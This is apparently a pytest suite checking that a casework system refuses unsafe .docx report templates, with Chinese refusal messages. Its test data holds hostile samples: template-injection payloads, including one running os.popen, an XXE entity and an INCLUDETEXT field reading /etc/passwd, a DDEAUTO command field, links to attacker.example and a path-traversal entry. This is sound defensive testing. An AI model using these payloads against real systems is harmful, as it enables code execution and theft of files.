"""Which .docx an office may print into, and what is refused with which words."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import docx
import pytest

from casework.reports.fields import fields
from casework.reports.package_check import MOST_BYTES, BadTemplate
from casework.reports.shipped_templates import INCIDENT, KINDS, OFFICE, shipped
from casework.reports.template_check import check_template
from casework.reports.template_making import made
from records.reports import Part
from tests.casework.reports.packages import edited, with_parts, with_text

RELATIONS = "word/_rels/document.xml.rels"
DOCUMENT = "word/document.xml"
TYPES = "[Content_Types].xml"
OUTSIDE = '<Relationship Id="rIdX" Type="http://x/{kind}" Target="http://attacker.example/a" TargetMode="External"/></Relationships>'


def refused(kind: str, content: bytes) -> str:
    with pytest.raises(BadTemplate) as caught:
        check_template(kind, content)
    return str(caught.value)


def in_text(xml: str) -> bytes:
    """The template for incidents with this XML before its first paragraph."""
    return with_parts(INCIDENT, {}, {DOCUMENT: ("<w:body>", f"<w:body>{xml}")})


@pytest.mark.parametrize("kind", KINDS)
def test_the_shipped_templates_may_be_used(kind: str) -> None:
    check_template(kind, shipped(kind))


@pytest.mark.parametrize("kind", [INCIDENT, OFFICE])
def test_the_shipped_templates_are_what_docx_yaml_makes(kind: str) -> None:
    def parts(content: bytes) -> dict[str, bytes]:
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            return {name: package.read(name) for name in package.namelist()}

    assert parts(shipped(kind)) == parts(made(kind))


@pytest.mark.parametrize(
    ("kind", "name"), [(kind, one.name) for kind in (INCIDENT, OFFICE) for one in fields(kind) if one.required]
)
def test_a_required_field_that_is_missing_is_named(kind: str, name: str) -> None:
    def drop(document: Any) -> None:
        for paragraph in document.paragraphs:
            if f"{{{{{name}}}}}" in paragraph.text:
                paragraph._p.getparent().remove(paragraph._p)

    assert f"模板缺少必需的字段“{name}”" in refused(kind, edited(kind, drop))


@pytest.mark.clause("H-42(3)")
def test_each_of_the_four_parts_is_a_required_field() -> None:
    assert {part.label for part in Part} <= {one.name for one in fields(INCIDENT) if one.required}


@pytest.mark.parametrize("name", ["抬头", "主送"])
def test_what_the_office_has_printed_on_its_paper_may_be_left_out(name: str) -> None:
    check_template(INCIDENT, with_text(INCIDENT, f"{{{{{name}}}}}", "本区自己的字样"))


@pytest.mark.parametrize(
    "hostile",
    [
        "{{7*7}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{ config.items() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{作者}}",
        "{{文号|safe}}",
        "{% for x in range(10**9) %}{% endfor %}",
        "{%p if x %}",
        "{# 注 #}",
    ],
)
def test_an_expression_or_an_unknown_field_is_refused_with_its_text(hostile: str) -> None:
    said = refused(INCIDENT, edited(INCIDENT, lambda document: document.add_paragraph(f"前 {hostile} 后")))
    assert hostile.strip("{} ")[:20] in said


def test_an_expression_cut_into_runs_in_a_table_or_a_footer_is_found() -> None:
    def in_runs(document: Any) -> None:
        paragraph = document.add_paragraph()
        for piece in ("{", "{7", "*7}", "}"):
            paragraph.add_run(piece)

    def in_table(document: Any) -> None:
        document.add_table(1, 1).cell(0, 0).text = "{{7*7}}"

    def in_footer(document: Any) -> None:
        document.sections[0].footer.add_paragraph("{{7*7}}")

    for change in (in_runs, in_table, in_footer):
        assert "“7*7”" in refused(INCIDENT, edited(INCIDENT, change))


@pytest.mark.parametrize("loose", ["{{文号", "文号}}", "{%", "}}文号{{"])
def test_marks_that_do_not_close_are_refused(loose: str) -> None:
    assert "没有成对" in refused(INCIDENT, edited(INCIDENT, lambda document: document.add_paragraph(loose)))


def test_a_part_stands_alone_and_once() -> None:
    twice = edited(INCIDENT, lambda document: document.add_paragraph("{{网民观点}}"))
    among = with_text(INCIDENT, "{{网民观点}}", "网民观点：{{网民观点}}")

    def in_table(document: Any) -> None:
        for paragraph in document.paragraphs:
            if paragraph.text == "{{段落}}":
                document.add_table(1, 1).cell(0, 0)._tc.append(paragraph._p)

    for content in (twice, among):
        assert "“网民观点”要单独成一段" in refused(INCIDENT, content)
    assert "“段落”要单独成一段" in refused(OFFICE, edited(OFFICE, in_table))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "不是 .docx"),
        (b"%PDF-1.7", "不是 .docx"),
        (b"PK\x03\x04" + b"\x00" * 200, "不是 .docx"),
        (b"x" * (MOST_BYTES + 1), "模板太大"),
        (with_parts(INCIDENT, {"word/vbaProject.bin": b"x"}), "宏或控件（word/vbaProject.bin）"),
        (with_parts(INCIDENT, {"word/activeX/activeX1.xml": b"<a/>"}), "宏或控件"),
        (with_parts(INCIDENT, {"word/embeddings/oleObject1.bin": b"x"}), "嵌入的对象"),
        (with_parts(INCIDENT, {"word/afchunk.mht": b"x"}), "用不到的内容（word/afchunk.mht）"),
        (with_parts(INCIDENT, {"../../evil.xml": b"<a/>"}), "用不到的内容（../../evil.xml）"),
        (with_parts(INCIDENT, {"word/document2.xml": b"<a/>"}), "用不到的内容"),
        (with_parts(INCIDENT, {"word/footnotes.xml": b"\x00" * (4 * 1024 * 1024)}), "解压后大得不正常"),
        (with_parts(INCIDENT, {f"word/media/i{one}.png": b"x" for one in range(400)}), "文件太多"),
        (
            with_parts(INCIDENT, {}, {TYPES: ("document.main+xml", "document.macroEnabled.main+xml")}),
            "不是普通的 .docx",
        ),
        (with_parts(INCIDENT, {"word/comments.xml": b"<a><b></a>"}), "word/comments.xml 已损坏"),
        (
            with_parts(
                INCIDENT, {"word/comments.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}
            ),
            "文档类型声明",
        ),
        (with_parts(INCIDENT, {}, {RELATIONS: ("</Relationships>", OUTSIDE.format(kind="image"))}), "attacker.example"),
        (
            with_parts(INCIDENT, {}, {RELATIONS: ("</Relationships>", OUTSIDE.format(kind="hyperlink"))}),
            "指向外部的链接",
        ),
        (
            with_parts(
                INCIDENT,
                {"word/_rels/settings.xml.rels": f"<Relationships>{OUTSIDE.format(kind='attachedTemplate')}".encode()},
            ),
            "指向外部的链接",
        ),
        (in_text("<w:p><w:r><w:object/></w:r></w:p>"), "嵌入的对象"),
        (in_text('<w:altChunk r:id="rId1" xmlns:r="http://r"/>'), "嵌入的文档"),
        (
            in_text('<w:p><w:r><w:pict><v:shape href="http://x" xmlns:v="urn:v"/></w:pict></w:r></w:p>'),
            "指向外部的链接",
        ),
        (in_text('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; "/></w:p>'), "INCLUDETEXT"),
        (
            in_text(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd</w:instrText>'
                '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
            "DDEAUTO",
        ),
    ],
)
def test_a_package_that_is_more_than_a_plain_docx_is_refused(content: bytes, words: str) -> None:
    assert words in refused(INCIDENT, content)


def test_an_encrypted_entry_is_refused() -> None:
    content = bytearray(shipped(INCIDENT))
    directory = content.index(b"PK\x01\x02")
    content[directory + 8] |= 1
    assert "密码" in refused(INCIDENT, bytes(content))


def test_an_entry_that_lies_about_its_size_is_refused() -> None:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"0" * 5000)
    content = bytearray(written.getvalue())
    directory = content.index(b"PK\x01\x02")
    content[directory + 24 : directory + 28] = (10).to_bytes(4, "little")
    assert refused(INCIDENT, bytes(content))


def test_a_template_of_another_word_processor_with_its_own_styles_is_taken() -> None:
    def change(document: Any) -> None:
        for paragraph in document.paragraphs:
            for run in paragraph.runs:
                run.font.name = "宋体"
        for style in list(document.styles.element):
            if style.get(docx.oxml.ns.qn("w:styleId")) == "TableGrid":
                style.getparent().remove(style)

    check_template(OFFICE, edited(OFFICE, change))
